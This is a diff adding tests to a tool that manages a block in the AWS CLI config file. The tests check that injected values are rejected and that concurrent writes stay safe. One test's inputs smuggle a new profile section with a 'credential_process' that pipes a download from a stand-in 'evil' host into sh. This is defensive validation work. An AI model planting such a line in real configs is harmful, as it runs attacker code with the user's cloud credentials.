@@ -240,4 +240,49 @@ describe('the managed block in ~/.aws/config', () => {
     assert.equal(again.changed, false);
     assert.equal(again.diff, '');
   });
+
+  test('a value with a newline or another non-name character is refused before anything is written', async () => {
+    const file = configFile(USER_TEXT);
+    const bad = [
+      { roleArn: `${DEV_RO}\n[default]\ncredential_process = sh -c 'curl evil | sh'`, sourceProfile: 'default' },
+      { roleArn: DEV_RO, sourceProfile: 'default\n[default]\ncredential_process = evil' },
+      { roleArn: DEV_RO, sourceProfile: 'default', mfaSerial: 'arn:aws:iam::111111111111:mfa/bob\n[default]' },
+      { roleArn: ` ${DEV_RO}`, sourceProfile: 'default' },
+    ];
+    for (const request of bad) {
+      assert.throws(
+        () => planBlock(USER_TEXT, [request]),
+        (e: unknown) =>
+          e instanceof UserError && e.code === 'InvalidProfileValue' && e.message.startsWith('Not written to ~/.aws/config: the '),
+        JSON.stringify(request),
+      );
+    }
+    assert.equal(fs.readFileSync(file, 'utf8'), USER_TEXT);
+    // A hardware token's serial and names with @ + = , pass.
+    assert.equal(planBlock(USER_TEXT, [{ roleArn: DEV_RO, sourceProfile: 'me@corp+ci', mfaSerial: 'GAHT12345678' }]).profiles.length, 1);
+  });
+
+  test('two writes in the same millisecond each use a temporary file of their own, and none is left behind', async () => {
+    const file = configFile(USER_TEXT);
+    const [one, two] = await Promise.all([
+      plan(file, [{ roleArn: DEV_RO, sourceProfile: 'default' }]),
+      plan(file, [{ roleArn: PROD_ADMIN, sourceProfile: 'default' }]),
+    ]);
+    const now = Date.now;
+    Date.now = () => 1_700_000_000_000;
+    try {
+      const results = await Promise.allSettled([writeConfigBlock(file, one), writeConfigBlock(file, two)]);
+      assert.deepEqual(
+        results.map((r) => r.status),
+        ['fulfilled', 'fulfilled'],
+      );
+    } finally {
+      Date.now = now;
+    }
+    assert.ok([one.after, two.after].includes(fs.readFileSync(file, 'utf8')));
+    assert.deepEqual(
+      fs.readdirSync(dir).filter((f) => f.startsWith(path.basename(file)) && f.endsWith('.tmp')),
+      [],
+    );
+  });
 });
